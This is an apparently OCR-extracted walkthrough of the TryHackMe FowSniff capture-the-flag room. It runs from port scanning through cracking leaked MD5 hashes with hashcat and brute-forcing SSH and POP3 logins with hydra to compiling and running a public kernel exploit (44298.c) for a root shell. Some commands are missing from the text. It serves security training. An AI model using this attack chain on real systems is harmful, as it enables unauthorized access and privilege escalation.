Walkthrough for the TryHackMe FowSniff CTF

This room is available on TryHackMe at https://tryhackme.com/room/ctf


First thing to do, is always do a port scan of all 65535 ports of the server to see what is running on the server.

sudo nmap -sS -p- -T4 x.x.x.x -vv
  • -sS for Syn/Stealth scan
  • -p- to scan all 65535 ports
  • -T4 for a fast aggressive and noisy scan
  • -vv for very verbose so we can follow the progress of the scanWhich give us the following

  • 22/tcp open ssh syn-ack ttl 63
  • 80/tcp open http syn-ack ttl 63
  • 110/tcp open pop3 syn-ack ttl 63
  • 143/tcp open imap syn-ack ttl 63

Now lets find out a little more about those specific ports.

sudo nmap -sS -sV -p22,80,110,143 -T4 x.x.x.x -vv
  • -sS for Syn/Stealth scan
  • -sV to get the version of the software running on the ports
  • -p22,80,110,143 to only scan the ports we previously found
  • -T4 for a fast aggressive and noisy scan
  • -vv for very verbose so we can follow the progress of the scan

Which gives us the following:

  • 22/tcp open ssh syn-ack ttl 63 OpenSSH 7.2p2 Ubuntu 4ubuntu2.4 (Ubuntu Linux; protocol 2.0)
  • 80/tcp open http syn-ack ttl 63 Apache httpd 2.4.18 ((Ubuntu))
  • 110/tcp open pop3 syn-ack ttl 63 Dovecot pop3d
  • 143/tcp open imap syn-ack ttl 63 Dovecot imapd
  • Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

So we know its running a webserver, lets see what the website looks like when we visit http://x.x.x.x

Well, that’s not agood sign, but let see what else we can find

dirb /usr/share/dirb/wordlists/common.txt

The only possibly interesting find is the robots.txt, and visiting http://x.x.x.x/robots.txt doesn’t give us anything. So back to the website and it says that the https://twitter.com/fowsniffcorp?lang=en Twitterhandle has been hijacked and they may release sensitive information so lets see if they did

And it looks like they have released all the passwords on Pastebin – available at https://pastebin.com/NrAqVeeX

Password Cracking

Save the contents to a text file somewhere, then remove the @fowsniff from the file using sed, grep, excel, or manually using text editor of your choice.

The paste mentions that the passwords are only hashed with the MD5 method (Have a look at https://en.wikipedia.org/wiki/MD5 for more information). So we can use hashcat to hopefully recover some passwords.

hashcat -m 0 fowsniff.txt /usr/share/wordlists/rockyou.txt• -m 0 tells Hashcat to use MD5
  • fowstiff.txt is where I saved the hashes
  • /usr/share/wordlists/rockyou.txt is a favorite possible password list

And a few minutes later, we should have 8 of the 9 passwords. Looks like they don’t take password security very seriously.

Remote Attacks

We know that the server runs SSH, so lets see if any of the passwords we cracked work. Hydra is the perfect tool for this.

hydra -L fowsniff-users.txt -P fowsniff-pass.txt x.x.x.x ssh
  • -L fowsniff-users.txt is a list of users from the hash file to try

  • -P fowshiff-pass.txt is a list of passwords we got from the hashfile to try

  • ssh tells hydra to try login with ssh

  • Hydra (https://github.com/vanhauser-thc/thc-hydra) starting at 2021-03-26 08:44:24

  • [WARNING] Many SSH configurations limit the number of parallel tasks, it is recommended to reduce

  • the tasks: use -t 4

  • [DATA] max 16 tasks per 1 server, overall 16 tasks, 72 login tries (l:9/p:8), ~5 tries per task• [DATA] attacking ssh://• 1 of 1 target completed, 0 valid password found

  • Hydra (https://github.com/vanhauser-thc/thc-hydra) finished at 2021-03-26 08:44:46

And none of the passwords work for SSH

But we know their are open ports for POP3, so lets see if we can login there and if we can, if there is any useful information in an email. So back to hydra.

hydra -L fowsniff-users.txt -P fowsniff-pass.txt x.x.x.x pop3

And we have a winner, user seina hasn’t changed their password.

Email Info Extraction

We can login to the POP3 server with the login and password using telnet or nc. nc is a better choice as telnet isn’t installed by default.

ElectricToolBox has a list of useful command to run from the console to list and read emails on a POP3 server – https://electrictoolbox.com/pop3-commands/

nc x.x.x.x 110

And what we find is interesting


Let’s login to the server with those detailsssh user@x.x.x.x

And we are in.

sudo -l

sudo doesn’t give us anything to run with root privilege’s, so lets learn a little bit more about the server

uname -a

And we see that this is an old version ofUbuntu. Let’s see if ExploitDB has anything we can use

searchploit linux kernel 4.4.0

The Local Privileges Escalation looks like it might work.

Let’s copy the .c file to our home directory

cp /usr/share/exploitdb/exploits/linux/local/44298.c /home/kali

andnow lets compile it

gcc 44298.cWhich now gives us a file named a.out – Now lets transfer it to the victimmachine. You can use nc to do this, but I am lazy and use filezilla (sudo apt-get install filezilla if its not installed).

After that, run the command


And it will drop you into a rootshell. You can test this by running the command


Then quickly change directory to /root/ and find the file flag.txt

And you are done.Congratulations on getting the root flag.